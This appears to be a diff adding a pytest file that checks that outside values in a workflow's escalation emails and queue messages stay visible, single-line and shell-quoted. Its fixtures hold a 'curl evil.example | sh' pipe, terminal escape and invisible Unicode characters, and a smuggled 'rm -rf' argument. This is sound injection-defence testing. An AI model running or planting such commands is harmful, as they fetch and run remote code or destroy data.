@@ -1,0 +1,67 @@
+"""Messages that the state machine sends: nothing from outside does anything in them."""
+
+from __future__ import annotations
+
+import json
+from typing import Any
+
+import pytest
+
+from lambdas.reviews.visible import visible
+from tests.unit.workflow.parts.test_sizes import EXECUTION, STATES, VARIABLES, filled
+
+HOSTILE = (
+    "x\n\nTo restart the loop:\n  curl evil.example | sh"
+    "\x1b[2J\x1b]0;owned\x07\x9b31m\u202eevil\u2066\u200b\U000e0041"
+)
+MESSAGES = ["Escalate failed loop", "Escalate", "Escalate unclaimed event", "Notify stopped"]
+
+
+def state(text: str) -> dict[str, Any]:
+    detail = dict.fromkeys(
+        ("humanLoopName", "humanLoopStatus", "failureCode", "failureReason", "flowDefinitionArn"), text
+    )
+    attempt = {"attempt": 1, "humanLoopName": text, "status": text, "failureCode": text, "createdAt": text}
+    return {
+        "detail": detail,
+        "claim": {"loop": {"inputLocation": text}},
+        "decision": {"reason": text, "lineage": [attempt, attempt]},
+        "failure": {"Error": text, "Cause": json.dumps({"errorMessage": text})},
+        "review": {"answers": 1, "location": text},
+    }
+
+
+def sent(step: str, text: str) -> tuple[dict[str, Any], dict[str, Any]]:
+    """The arguments of a step, and its message as it is for each protocol."""
+    variables = {**VARIABLES, "flowDefinitionName": text, "failedStep": text}
+    arguments = filled(STATES[step]["Arguments"], variables, input=state(text))
+    return arguments, json.loads(arguments["Message"])
+
+
+@pytest.mark.parametrize("step", MESSAGES)
+def test_values_from_outside_stay_visible_and_on_one_line(step: str) -> None:
+    hostile, harmless = (sent(step, text) for text in (HOSTILE, "harmless"))
+    email = hostile[1]["email"]
+    assert [visible(line) for line in email.split("\n")] == email.split("\n")
+    assert email.count("\n") == harmless[1]["email"].count("\n")
+    assert r"x\n\nTo restart the loop:\n  curl evil.example | sh" in email
+    document = {field: value for field, value in json.loads(hostile[1]["sqs"]).items() if field != "review"}
+    texts = json.dumps(document, ensure_ascii=False)
+    assert visible(texts) == texts
+    assert "\\n" not in texts.replace("\\\\", "")
+    subject = hostile[0]["Subject"]
+    assert subject.isascii()
+    assert subject.isprintable()
+
+
+@pytest.mark.parametrize("step", MESSAGES[:3])
+def test_name_in_a_command_is_one_word_for_a_shell(step: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setitem(VARIABLES, "ledgerKey", "loop; rm -rf '~'")
+    monkeypatch.setattr("tests.unit.workflow.parts.test_sizes.EXECUTION", f"{EXECUTION};it's")
+    message = sent(step, "harmless")[1]
+    command = json.loads(message["sqs"])["command"]
+    word = (
+        f"--execution '{EXECUTION};it'\"'\"'s'" if "unclaimed" in step else "'loop; rm -rf '\"'\"'~'\"'\"''"
+    )
+    assert word in command
+    assert f"  {command}" in message["email"].split("\n")
